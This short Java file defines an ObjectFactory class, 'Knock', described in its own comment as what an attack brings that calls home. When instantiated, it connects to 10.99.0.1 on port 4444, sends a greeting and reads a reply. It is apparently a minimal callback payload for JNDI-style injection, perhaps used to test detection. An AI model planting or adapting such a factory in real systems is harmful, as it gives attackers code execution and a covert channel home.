/* SPDX-License-Identifier: GPL-2.0-or-later */
import java.io.IOException;
import java.net.Socket;
import java.util.Hashtable;
import javax.naming.Context;
import javax.naming.Name;
import javax.naming.spi.ObjectFactory;

/** What an attack brings that calls home: a connection to the attacker, a word, and nothing else. */
public class Knock implements ObjectFactory {
    @Override
    public Object getObjectInstance(Object reference, Name name, Context context, Hashtable<?, ?> environment) throws IOException {
        try (Socket home = new Socket("10.99.0.1", 4444)) {
            home.getOutputStream().write("here I am\n".getBytes());
            return "knocked " + home.getInputStream().read();
        }
    }
}
